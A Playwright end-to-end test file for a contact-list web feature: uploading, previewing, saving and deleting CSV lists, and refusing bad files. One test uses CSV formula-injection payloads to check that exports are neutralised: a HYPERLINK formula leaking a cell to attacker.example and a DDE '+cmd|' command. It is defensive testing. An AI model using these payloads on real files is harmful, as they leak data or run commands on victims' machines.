import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { seedRep } from './playwright.config.ts';

// The shared fixtures sit beside the repository (shared/README.md); never copied into it.
const fixtures = path.resolve(import.meta.dirname, '../../shared/fixtures/contacts');

async function signIn(page: Page) {
  await page.goto('/login');
  await page.getByLabel('Email').fill(seedRep.email);
  await page.getByLabel('Password').fill(seedRep.password);
  await page.getByRole('button', { name: 'Log In' }).click();
  await expect(page).toHaveURL(/\/feature/);
}

test('upload a Salesforce report, verify, open it, set identifiers, save, reload, delete', async ({
  page,
}) => {
  await signIn(page);
  await page.goto('/feature/contact/');
  const table = page.getByRole('table', { name: 'Contact lists' });
  // A rep who has not agreed yet gets the consent popup first (spec 1 §2); agree and go on.
  const consent = page.getByRole('alertdialog', { name: 'Privacy Policy and Terms of Service' });
  await expect(table.getByText('Sample prospects').or(consent).first()).toBeVisible();
  if (await consent.isVisible()) {
    // By keyboard: the shell's popup overlay sits over its own buttons (reported to the shell's owner).
    await consent.getByRole('button', { name: 'I agree' }).press('Enter');
    await expect(consent).toBeHidden();
  }
  // The seeded sample list is there.
  await expect(table.getByText('Sample prospects')).toBeVisible();

  await page.getByRole('button', { name: 'Upload' }).click();
  const modal = page.getByRole('dialog');
  await expect(modal.getByRole('heading', { name: 'Upload Contact List' })).toBeVisible();
  // spec 1 §5: a .txt is refused. (The drop area is named 'CSV file: drop a file here or'; exact
  // picks the file input inside it, which setInputFiles fills as a rep's pick would.)
  await modal.getByLabel('CSV file', { exact: true }).setInputFiles(path.join(fixtures, 'contacts.txt'));
  await expect(modal.getByText('Invalid file extension')).toBeVisible();

  await modal.getByLabel('Name').fill('E2E Salesforce report');
  await modal
    .getByLabel('CSV file', { exact: true })
    .setInputFiles(path.join(fixtures, 'salesforce-report.csv'));
  await expect(modal.getByText('salesforce-report.csv')).toBeVisible();
  const next = modal.getByRole('button', { name: 'Continue' });
  await expect(next).not.toHaveAttribute('aria-disabled', 'true');
  await next.click();

  await expect(modal.getByRole('heading', { name: 'Verify upload' })).toBeVisible();
  await expect(modal.getByRole('checkbox', { name: 'The first row is for header' })).toBeChecked();
  await expect(modal.getByRole('columnheader', { name: 'Mailing Street' })).toBeVisible();
  await expect(modal.getByText('John "Jack" Kilby')).toBeVisible();
  await modal.getByRole('button', { name: 'Start the upload' }).click();
  await expect(modal).toBeHidden();

  const row = table.getByRole('row').filter({ hasText: 'E2E Salesforce report' });
  await expect(row).toBeVisible();
  await expect(row).toContainText('3');
  await row.getByText('E2E Salesforce report').click();

  await expect(page).toHaveURL(/\/feature\/contact\/view\/[0-9a-f-]{36}\/$/);
  await expect(page.getByLabel('List title')).toHaveValue('E2E Salesforce report');
  const grid = page.getByRole('table', { name: 'Contacts of the list' });
  // The quoted newline stayed in one cell.
  await expect(grid.getByRole('cell', { name: /1101 Kitchawan Rd\s+Yorktown Heights, NY/ })).toBeVisible();
  await page.getByLabel('Identifier for Full Name').fill('full_name');
  await page.getByLabel('Identifier for Email').fill('email');
  await page.getByRole('button', { name: 'Save' }).click();
  // The save is confirmed (issue 9: 'List updated' used to never show).
  await expect(page.getByText('List updated').first()).toBeVisible();
  await expect(page.getByRole('button', { name: 'Save' })).toHaveAttribute('aria-disabled', 'true');

  await page.reload();
  await expect(page.getByLabel('Identifier for Full Name')).toHaveValue('full_name');
  await expect(page.getByLabel('Identifier for Email')).toHaveValue('email');
  await expect(page.getByLabel('Identifier for Phone')).toHaveValue('');

  await page.getByRole('link', { name: 'Back to contact lists' }).click();
  const saved = table.getByRole('row').filter({ hasText: 'E2E Salesforce report' });
  await expect(saved).toBeVisible();
  await saved.getByRole('button', { name: 'Delete E2E Salesforce report' }).click();
  const confirm = page.getByRole('alertdialog');
  await expect(confirm.getByText('Are you sure you want to delete this link?')).toBeVisible();
  await expect(confirm.getByText('Once deleted cannot be recovered')).toBeVisible();
  await confirm.getByRole('button', { name: 'Delete' }).click();
  await expect(saved).toHaveCount(0);
  await page.reload();
  await expect(table.getByText('Sample prospects')).toBeVisible();
  await expect(table.getByText('E2E Salesforce report')).toHaveCount(0);
});

test('a list with formula cells shows them as typed and downloads them neutralised', async ({ page }) => {
  await signIn(page);
  await page.goto('/feature/contact/');
  const table = page.getByRole('table', { name: 'Contact lists' });
  const consent = page.getByRole('alertdialog', { name: 'Privacy Policy and Terms of Service' });
  await expect(table.getByText('Sample prospects').or(consent).first()).toBeVisible();
  if (await consent.isVisible()) {
    await consent.getByRole('button', { name: 'I agree' }).press('Enter');
    await expect(consent).toBeHidden();
  }

  await page.getByRole('button', { name: 'Upload' }).click();
  const modal = page.getByRole('dialog');
  await modal.getByLabel('Name').fill('E2E formulas');
  await modal
    .getByLabel('CSV file', { exact: true })
    .setInputFiles(path.join(fixtures, 'formula-injection.csv'));
  await expect(modal.getByText('formula-injection.csv')).toBeVisible();
  await modal.getByRole('button', { name: 'Continue' }).click();
  await modal.getByRole('button', { name: 'Start the upload' }).click();
  await expect(modal).toBeHidden();
  await table.getByText('E2E formulas').click();

  // Stored and shown as typed (shared/README.md fixtures: formula-injection.csv).
  const formula = '=HYPERLINK("http://attacker.example/?leak="&A1;"click")';
  const grid = page.getByRole('table', { name: 'Contacts of the list' });
  await expect(grid.getByRole('cell', { name: formula, exact: true })).toBeVisible();
  await expect(grid.getByRole('cell', { name: '@SUM(1+1)', exact: true })).toBeVisible();

  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download CSV' }).click();
  const download = await downloading;
  expect(download.suggestedFilename()).toBe('E2E formulas.csv');
  const bytes = await readFile(await download.path());
  // UTF-8 with a BOM, for spreadsheets.
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const lines = bytes.subarray(3).toString('utf8').split('\r\n');
  expect(lines).toEqual([
    '"name","email","company"',
    `"'=HYPERLINK(""http://attacker.example/?leak=""&A1;""click"")","eve@attacker.example","'+cmd|' /C calc'!A0"`,
    `"'@SUM(1+1)","mallory@attacker.example","'-2+3"`,
    '',
  ]);

  // The export changed nothing stored: after a reload the cell is still as typed.
  await page.reload();
  await expect(grid.getByRole('cell', { name: formula, exact: true })).toBeVisible();

  await page.getByRole('link', { name: 'Back to contact lists' }).click();
  const row = table.getByRole('row').filter({ hasText: 'E2E formulas' });
  await row.getByRole('button', { name: 'Delete E2E formulas' }).click();
  await page.getByRole('alertdialog').getByRole('button', { name: 'Delete' }).click();
  await expect(row).toHaveCount(0);
});

test('a CSV with a NUL byte is refused on step 1 with the line it is on, and nothing is sent', async ({
  page,
}) => {
  await signIn(page);
  await page.goto('/feature/contact/');
  const table = page.getByRole('table', { name: 'Contact lists' });
  const consent = page.getByRole('alertdialog', { name: 'Privacy Policy and Terms of Service' });
  await expect(table.getByText('Sample prospects').or(consent).first()).toBeVisible();
  if (await consent.isVisible()) {
    await consent.getByRole('button', { name: 'I agree' }).press('Enter');
    await expect(consent).toBeHidden();
  }
  const posts: string[] = [];
  page.on('request', (request) => {
    if (request.method() === 'POST' && request.url().includes('/web/contact')) posts.push(request.url());
  });

  await page.getByRole('button', { name: 'Upload' }).click();
  const modal = page.getByRole('dialog');
  await modal.getByLabel('Name').fill('E2E NUL');
  // Like simple.csv, one cell holding a zero byte (issue 15 §7: 'Internal server error' before).
  const csv = 'name,email\r\nAda,ada@example.com\r\nGrace,gr\u0000ace@example.com\r\n';
  await modal
    .getByLabel('CSV file', { exact: true })
    .setInputFiles({ name: 'with-nul.csv', mimeType: 'text/csv', buffer: Buffer.from(csv, 'utf8') });
  await expect(modal.getByText(/NUL character \(a zero byte\) on line 3/)).toBeVisible();
  // No parsed file, so step 2 stays out of reach and nothing goes to the server.
  await expect(modal.getByRole('button', { name: 'Continue' })).toHaveAttribute('aria-disabled', 'true');
  expect(posts).toEqual([]);
});
